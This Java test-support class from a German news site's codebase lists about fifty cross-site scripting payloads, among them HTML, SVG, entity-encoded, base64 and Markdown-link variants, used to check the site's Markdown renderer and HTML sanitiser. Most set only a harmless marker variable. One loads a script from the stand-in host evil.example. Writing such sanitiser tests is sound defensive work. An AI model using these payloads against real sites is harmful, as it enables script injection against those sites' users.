package de.gemeinsinn.news;

import java.util.List;

/**
 * Classic XSS vectors, each trying to set {@code window.__xss} or the document title. Used in
 * Markdown bodies (unit test and real browser) and fed to the sanitiser as raw HTML.
 */
final class XssPayloads {

    private XssPayloads() {}

    static final List<String> ALL = List.of(
            "<script>window.__xss=1</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=\"window.__xss=1\">",
            "<img src=x onerror=\"document.title='XSS'\">",
            "<svg onload=\"window.__xss=1\">",
            "<svg><script>window.__xss=1</script></svg>",
            "<svg><animate onbegin=\"window.__xss=1\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
            "<body onload=\"window.__xss=1\">",
            "<details open ontoggle=\"window.__xss=1\"><summary>x</summary></details>",
            "<input autofocus onfocus=\"window.__xss=1\">",
            "<marquee onstart=\"window.__xss=1\">x</marquee>",
            "<video><source onerror=\"window.__xss=1\"></video>",
            "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
            "<iframe src=\"javascript:parent.__xss=1\"></iframe>",
            "<object data=\"javascript:window.__xss=1\"></object>",
            "<embed src=\"javascript:window.__xss=1\">",
            "<a href=\"javascript:window.__xss=1\">klick</a>",
            "<a href=\"  JaVaScRiPt:window.__xss=1\">klick</a>",
            "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:window.__xss=1\">klick</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1\">klick</a>",
            "<IMG SRC=\"jav&#x09;ascript:window.__xss=1\">",
            "<div style=\"background:url(javascript:window.__xss=1)\">x</div>",
            "<p style=\"width:expression(window.__xss=1)\">x</p>",
            "<style>@import 'javascript:window.__xss=1';</style>",
            "<form action=\"javascript:window.__xss=1\"><button>los</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
            "<base href=\"javascript:window.__xss=1//\">",
            "<link rel=\"stylesheet\" href=\"data:text/css,body{}\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss=1\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
            "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
            "\"><img src=x onerror=window.__xss=1>",
            "<textarea><img src=x onerror=window.__xss=1></textarea>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+\">",
            "[Markdown-Link](javascript:window.__xss=1)",
            "[Markdown-Link](JAVASCRIPT:window.__xss=1)",
            "[Markdown-Link](javascript&#58;window.__xss=1)",
            "[Markdown-Link](&#106;avascript:window.__xss=1)",
            "[Markdown-Link](<javascript:window.__xss=1>)",
            "[Markdown-Link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
            "[Markdown-Link](vbscript:msgbox(1))",
            "![Bild](javascript:window.__xss=1)",
            "![Bild](x\" onerror=\"window.__xss=1)",
            "![Bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+)",
            "[ref]: javascript:window.__xss=1\n\n[Referenz-Link][ref]",
            "<https://example.org\" onmouseover=\"window.__xss=1>",
            "`<img src=x onerror=window.__xss=1>`",
            "<a href=\"https://example.org\" onclick=\"window.__xss=1\" style=\"color:red\">fremd</a>");
}
